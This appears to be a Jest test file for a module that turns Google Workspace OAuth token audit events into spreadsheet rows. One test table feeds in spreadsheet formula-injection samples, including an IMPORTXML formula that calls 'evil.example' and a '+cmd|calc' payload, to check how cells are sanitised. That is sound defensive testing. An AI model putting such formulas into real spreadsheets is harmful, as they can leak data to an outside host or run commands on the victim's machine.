import { eventsOf } from '../../src/audit/log-event';
import type { TokenActivity } from '../../src/audit/ports';
import { HEADINGS, rowOf } from '../../src/audit/row';
import { activity, ANNA, APP, CLIENT, event, SCOPE, START } from './world';

const ALL = { appName: '', eventName: '' };
const TIME = '2026-03-02T08:00:00.000Z';
const GMAIL = 'https://mail.google.com/';

const rowsOf = (...events: NonNullable<TokenActivity['events']>) =>
  eventsOf([activity(START, { events })], ALL).map(rowOf);

test('the columns are the eight that the article lists, in its order [H27]', () => {
  expect(HEADINGS).toEqual([
    ...['Date', 'Application ID', 'Application name', 'Event'],
    ...['Description', 'User', 'Scope', 'IP address'],
  ]);
});

test.each([
  ['authorize', {}, 'Grant', `${ANNA} authorized access to Tandem for ${SCOPE} scopes`],
  ['revoke', {}, 'Revoke', `${ANNA} revoked access to Tandem for ${SCOPE} scopes`],
  ['deny', {}, 'Deny', `${ANNA} was denied access to Tandem for ${SCOPE} scopes`],
  [
    'deny',
    { rejection_type: 'SCOPE_BLOCK' },
    'Deny',
    `${ANNA} was denied access to Tandem for ${SCOPE} scopes: an administrator blocked the scopes`,
  ],
  [
    'deny',
    { rejection_type: 'NEW_REASON' },
    'Deny',
    `${ANNA} was denied access to Tandem for ${SCOPE} scopes: NEW_REASON`,
  ],
  ['request', {}, 'Request', `${ANNA} requested access to Tandem for ${SCOPE} scopes`],
  [
    'activity',
    { method_name: 'calendar.events.list' },
    'API call',
    `Tandem called calendar.events.list on behalf of ${ANNA}`,
  ],
  ['activity', {}, 'API call', `Tandem called an API on behalf of ${ANNA}`],
  ['renewed_v2', {}, 'renewed_v2', `${ANNA}: renewed_v2 (Tandem) for ${SCOPE} scopes`],
  ['constructor', {}, 'constructor', `${ANNA}: constructor (Tandem) for ${SCOPE} scopes`],
])('%s %j is a row with its sentence [H27]', (name, parameters, title, description) => {
  expect(rowsOf(event(name, parameters))).toEqual([
    [TIME, CLIENT, APP, title, description, ANNA, SCOPE, '198.51.100.7'],
  ]);
});

test('every scope of Drive, Calendar and Gmail is in the row [H26]', () => {
  const [row] = rowsOf(event('authorize', { scope: [SCOPE, GMAIL] }));
  expect(row?.[6]).toBe(`${SCOPE}, ${GMAIL}`);
  expect(row?.[4]).toBe(`${ANNA} authorized access to Tandem for ${SCOPE}, ${GMAIL} scopes`);
});

test('scopes that only scope_data has are read from there', () => {
  const multiMessageValue = [
    { parameter: [{ name: 'scope_name', value: GMAIL }, { name: 'product_bucket' }] },
    { parameter: [{ name: 'product_bucket' }] },
    {},
    null,
  ];
  const parameters = [{ name: 'scope_data', multiMessageValue }];
  const [row] = rowsOf({ name: 'authorize', parameters });
  expect(row?.[6]).toBe(GMAIL);
});

test('one scope given as a value is a scope', () => {
  expect(rowsOf(event('authorize', { scope: SCOPE }))[0]?.[6]).toBe(SCOPE);
});

test.each<[string, Partial<TokenActivity>, string]>([
  ['without an address is named by id', { actor: { profileId: '7' } }, '7'],
  ['that means nobody is left empty', { actor: { profileId: '105250506097979753968' } }, ''],
  ['that is missing is left empty', { actor: undefined as never }, ''],
])('an actor %s', (_, parts, user) => {
  const [row] = eventsOf([activity(START, parts)], ALL).map(rowOf);
  expect(row?.[5]).toBe(user);
});

test('the user of a request without an actor is the person who asked', () => {
  const events = [event('request', { requester_email: 'bo@acme.example' })];
  const [row] = eventsOf([activity(START, { actor: {}, events })], ALL).map(rowOf);
  expect(row?.[5]).toBe('bo@acme.example');
});

test('even an event without any data is a row of eight cells', () => {
  const bare = { id: { time: TIME, uniqueQualifier: '1' }, events: [{}] };
  expect(eventsOf([bare], ALL).map(rowOf)).toEqual([
    [TIME, '', '', '', 'Somebody: an event without a name (an application)', '', '', ''],
  ]);
});

test('an activity with several events becomes a row for each; one without events becomes none', () => {
  expect(rowsOf(event('authorize'), event('activity')).map((row) => row[3])).toEqual([
    'Grant',
    'API call',
  ]);
  expect(rowsOf()).toEqual([]);
  expect(eventsOf([{ id: { time: TIME, uniqueQualifier: '1' } }], ALL)).toEqual([]);
});

test.each([
  ['a\r\nb\tc\0d', 'a b c d'],
  ['\u2028x\u0085y\u001b[31m', ' x y [31m'],
  ['=IMPORTXML("https://evil.example","//a")', '=IMPORTXML("https://evil.example","//a")'],
  ['+cmd|calc', '+cmd|calc'],
  ["'=1", "'=1"],
  ['＝1', '＝1'],
  ['half \ud83d', 'half \ufffd'],
])('the name %j is the text %j in its cell [Att19]', (appName, cell) => {
  expect(rowsOf(event('authorize', { app_name: appName }))[0]?.[2]).toBe(cell);
});

test('text that is too long for a cell is cut', () => {
  const [row] = rowsOf(event('authorize', { app_name: 'x'.repeat(60_000) }));
  expect(row?.map((cell) => cell.length <= 50_000)).toEqual(Array(8).fill(true));
});

describe('the events of a log', () => {
  test('come oldest first, in the same order whatever order Google lists them in', () => {
    const all = [activity(START + 2), activity(START), activity(START), activity(START + 1)];
    const keys = (activities: TokenActivity[]) => eventsOf(activities, ALL).map(({ key }) => key);
    expect(keys([...all].reverse())).toEqual(keys(all));
    expect(eventsOf(all, ALL).map(({ time }) => Date.parse(time) - START)).toEqual([0, 0, 1, 2]);
  });

  test('are counted once when Google lists an activity twice [Inv17]', () => {
    const twice = activity(START);
    expect(eventsOf([twice, activity(START), twice], ALL)).toHaveLength(2);
  });

  test('are filtered one by one, because an activity also contains other events [H25, H28]', () => {
    const mixed = activity(START, {
      events: [event('authorize'), event('revoke'), event('revoke', { app_name: 'Other' })],
    });
    const names = (appName: string, eventName: string) =>
      eventsOf([mixed], { appName, eventName }).map(({ name }) => name);
    expect(names(APP, '')).toEqual(['authorize', 'revoke']);
    expect(names('', 'revoke')).toEqual(['revoke', 'revoke']);
    expect(names(APP, 'revoke')).toEqual(['revoke']);
    expect(names('Tande', '')).toEqual([]);
  });
});
